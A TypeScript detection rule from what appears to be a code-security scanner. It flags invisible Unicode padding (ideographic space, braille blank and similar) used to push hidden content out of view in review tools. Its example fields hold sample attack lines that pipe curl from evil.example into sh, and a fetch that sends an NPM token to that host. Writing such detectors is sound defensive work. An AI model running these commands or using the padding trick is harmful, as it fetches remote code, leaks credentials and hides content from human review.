// CG-UNI-007: invisible padding that pushes content out of view (the U+3000 branch-name trick).
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, TextRule, TextView} from '../types.js'
import {escapeVisible} from './chars.js'

export const meta: RuleMeta = {
  id: 'CG-UNI-007',
  title: 'Invisible padding before hidden content',
  severity: 'high',
  description:
    'A run of eight or more blank non-ASCII characters (U+3000 ideographic space, U+2000–U+200A, U+2800 braille blank, Hangul fillers…) followed by more text on the same line pushes that text past the edge of UIs, terminals and review tools (the padding used to hide a payload after a harmless-looking branch name). Trailing runs are low.',
  remediation: 'remove the padding and look at what it was hiding',
  example: {bad: 'main  (then 40 × U+3000, then ;curl evil.example|sh)', good: 'main'},
  examples: {
    flagged: [
      {escaped: true, text: `Update README${'\\u{3000}'.repeat(60)}$(curl -sSfL evil.example/p|sh)\n`, file: 'pr-description.txt'},
      {escaped: true, text: `const ok = true;${'\\u{2800}'.repeat(40)}fetch('https://evil.example/' + process.env.NPM_TOKEN)\n`, file: 'src/index.js', note: 'braille blanks push the call off screen'},
    ],
    clean: [
      {escaped: true, text: '\\u{3000}\\u{3000}\\u{65E5}\\u{672C}\\u{8A9E}\n', file: 'docs/ja.md', note: 'Japanese indentation'},
      {text: 'Update README\n', file: 'pr-description.txt'},
    ],
  },
}

const RUN = /(?:[\u1680\u2000-\u200a\u202f\u205f\u2800\u3000\u3164\uffa0\u115f\u1160][ \t]*){8,}/g

export const rule: TextRule = {
  meta,
  trigger: /[\u1680\u2000-\u200a\u202f\u205f\u2800\u3000\u3164\uffa0\u115f\u1160][ \t]*[\u1680\u2000-\u200a\u202f\u205f\u2800\u3000\u3164\uffa0\u115f\u1160]/,
  unicodeOnly: true,
  check(view: TextView): Hit[] {
    const text = view.text
    const hits: Hit[] = []
    for (const match of text.matchAll(RUN)) {
      const lineStart = text.lastIndexOf('\n', match.index - 1) + 1
      const eol = text.indexOf('\n', match.index)
      const line = text.slice(lineStart, eol < 0 ? text.length : eol)
      // braille art uses the blank pattern among other braille patterns
      if (match[0].includes('\u2800') && /[\u2801-\u28ff]/.test(line)) continue
      // padding repeats one character; a run of many different spaces is a whitespace table (regex classes in bundles)
      const counts = new Map<string, number>()
      for (const char of match[0]) if (char !== ' ' && char !== '\t') counts.set(char, (counts.get(char) ?? 0) + 1)
      const total = [...counts.values()].reduce((sum, count) => sum + count, 0)
      if (Math.max(...counts.values()) / total < 0.8) continue
      const after = text.slice(match.index + match[0].length, eol < 0 ? text.length : eol)
      const hidesContent = /\S/.test(after)
      const count = [...match[0]].filter((char) => char !== ' ' && char !== '\t').length
      hits.push({
        index: match.index,
        severity: hidesContent ? 'high' : 'low',
        message: `${count} invisible padding characters${hidesContent ? ` push "${escapeVisible(after.trim(), {max: 80})}" out of view` : ' at the end of the line'}`,
        evidence: escapeVisible(line, {max: 160}),
        seed: `padding:${line}`,
      })
    }
    return hits
  },
}
